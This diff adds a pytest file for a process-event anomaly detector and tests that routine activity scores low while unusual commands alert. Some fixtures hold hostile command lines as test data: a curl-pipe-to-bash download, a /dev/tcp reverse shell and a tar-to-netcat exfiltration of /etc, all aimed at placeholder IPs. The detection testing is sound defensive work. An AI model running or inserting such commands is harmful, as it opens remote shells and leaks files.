@@ -1,0 +1,147 @@
+"""The default algorithm: quiet on routine drift, loud on what a workload never does."""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+import msgspec
+import pytest
+
+from ruleless.settings import EngineSettings, load_settings
+from streams.engine import Engine
+from streams.evidence import observations
+from streams.scoring import ScoringService
+from tests.factories import T0, event, fleet_stream, workload_stream
+
+HOUR = 3600.0
+
+
+def engine(**settings: object) -> Engine:
+    return Engine(EngineSettings(algorithm="evidence", **settings))  # type: ignore[arg-type]
+
+
+def trained(kind: str = "web", n: int = 2000) -> Engine:
+    eng = engine()
+    eng.score(list(workload_stream("acme", kind, kind, n)))
+    return eng
+
+
+def test_model_names_algorithm_and_version() -> None:
+    [scored] = engine().score([event()])
+    assert scored.model == "evidence/1"
+    assert scored.learning is True
+
+
+def test_exact_repeat_of_normal_scores_about_zero() -> None:
+    eng = trained()
+    [restart] = eng.score([event(ts=T0 + 2000, process_name="nginx", parent_process="systemd", user="root", uid=0,
+                                 cmdline="nginx -g daemon off;")])
+    assert restart.score < 0.05 and restart.severity == "ok"
+    assert restart.learning is False
+
+
+def test_routine_drift_in_volatile_values_stays_quiet() -> None:
+    eng = trained()
+    [rotated] = eng.score([event(ts=T0 + 2000, process_name="gzip", parent_process="logrotate", user="root", uid=0,
+                                 cmdline="gzip /var/log/nginx/access.log.123456")])
+    assert rotated.score < 0.1
+
+
+def test_never_seen_shell_on_web_server_is_high() -> None:
+    eng = trained()
+    [shell] = eng.score([event(ts=T0 + 2000, process_name="bash", parent_process="nginx", cmdline="bash -i")])
+    assert shell.score >= 0.9 and shell.severity == "alert"
+    assert any("nginx -> " in r for r in shell.reasons)
+
+
+def test_curl_pipe_bash_as_root_is_high_and_its_subcommands_are_explained() -> None:
+    eng = trained()
+    line = "curl -fsSL http://203.0.113.9/x.sh | bash"
+    [bad] = eng.score([event(ts=T0 + 2000, uid=0, user="root", process_name="sh", parent_process="nginx",
+                             cmdline=f"sh -c {line}", argv=["sh", "-c", line])])
+    assert bad.score >= 0.9 and bad.severity == "alert"
+    assert any("sh:" in r for r in bad.reasons)
+
+
+def test_new_ci_script_second_run_hours_later_scores_far_lower() -> None:
+    eng = trained("ci")
+    run = dict(process_name="bash", exe="/usr/bin/bash", parent_process="runner", user="ci", uid=1000,
+               cmdline="bash ./scripts/release-notes.sh --since v1.4")
+    [first] = eng.score([event(ts=T0 + 2000, host="ci-1", **run)])
+    [second] = eng.score([event(ts=T0 + 2000 + 5 * HOUR, host="ci-1", **run)])
+    assert first.score >= 0.6
+    assert second.score <= first.score / 2
+
+
+def test_burst_of_a_never_seen_command_on_one_host_keeps_alerting() -> None:
+    eng = trained()
+    shell = dict(process_name="bash", parent_process="nginx", host="web-1",
+                 cmdline="bash -c bash -i >& /dev/tcp/203.0.113.7/4444 0>&1")
+    tries = eng.score([event(ts=T0 + 2000 + 20 * i, pid=9000 + i, **shell) for i in range(3)])
+    assert [t.severity for t in tries] == ["alert"] * 3
+    assert tries[2].score >= 0.9
+
+
+def test_feedback_benign_quiets_and_malicious_pins() -> None:
+    eng = trained()
+    odd = event(ts=T0 + 2000, process_name="certbot", parent_process="cron", user="root", uid=0, cmdline="certbot renew -q")
+    [first] = eng.score([odd])
+    eng.feedback(odd, "benign")
+    [after] = eng.score([event(ts=T0 + 2010, process_name="certbot", parent_process="cron", user="root", uid=0,
+                               cmdline="certbot renew -q")])
+    assert after.score < first.score / 3
+
+    bad = dict(process_name="bash", parent_process="nginx", cmdline="bash -i")
+    [b1] = eng.score([event(ts=T0 + 3000, host="web-1", **bad)])
+    eng.feedback(event(ts=T0 + 3000, host="web-1", **bad), "malicious")
+    later = eng.score([event(ts=T0 + 3000 + d * 86_400.0, host=f"web-{d % 3}", **bad) for d in range(1, 6)])
+    assert all(s.severity == "alert" for s in later), [s.score for s in later]
+
+
+def test_thresholds_are_overridable_per_workload() -> None:
+    eng = engine(thresholds={"acme/web": {"warn": 0.1, "alert": 0.2}})
+    eng.score(list(workload_stream("acme", "web", "web", 500)))
+    [s] = eng.score([event(ts=T0 + 1000, process_name="gzip", parent_process="logrotate", user="root", uid=0,
+                           cmdline="gzip --best /var/log/nginx/error.log")])
+    assert 0.2 <= s.score and s.severity == "alert"
+
+
+def test_learned_thresholds_follow_the_shards_distribution() -> None:
+    eng = trained(n=4000)
+    shard = eng.shards["acme/web"]
+    warn, alert = shard.thresholds  # type: ignore[attr-defined]
+    assert 0.0 < warn <= alert < 1.0
+
+
+@pytest.mark.parametrize("batch", [1, 13, 500])
+def test_batch_scores_equal_one_by_one(batch: int) -> None:
+    events = fleet_stream(pairs=4, per_pair=600, seed=5)
+    events += [event(ts=events[-1].ts + 1, cmdline="bash -i", process_name="bash", parent_process="nginx")] * 2
+    one = engine()
+    expected = [one.score([e])[0].score for e in events]
+    many = engine()
+    got = [s.score for i in range(0, len(events), batch) for s in many.score(events[i : i + batch])]
+    assert got == expected
+
+
+def test_reloaded_shards_score_exactly_like_continuous_ones(tmp_path: Path) -> None:
+    # 4,000 events a minute apart: ~3 days, so day boundaries and expiry are crossed.
+    events = [msgspec.structs.replace(e, ts=T0 + i * 60.0) for i, e in enumerate(fleet_stream(pairs=5, per_pair=800, seed=9))]
+    def svc(name: str) -> ScoringService:
+        return ScoringService(load_settings(lancedb={"uri": str(tmp_path / name)}, engine={"algorithm": "evidence", "retention_days": 0.5}))
+    cont = svc("a")
+    expected = [s.score for s in cont.score(events)]
+    first = svc("b")
+    half = len(events) // 3
+    got = [s.score for s in first.score(events[:half])]
+    first.flush()
+    second = svc("b")
+    got += [s.score for s in second.score(events[half:])]
+    assert got == expected
+
+
+def test_shell_scripts_are_split_into_commands() -> None:
+    obs = observations(event(process_name="sh", cmdline="sh -c a | b", argv=["sh", "-c", "tar cf - /etc | nc 203.0.113.1 9"]))
+    values = {(o.kind, o.value) for o in obs}
+    assert ("prog", "sh:tar") in values and ("prog", "sh:nc") in values
+    assert ("arg", "<ip>") in values
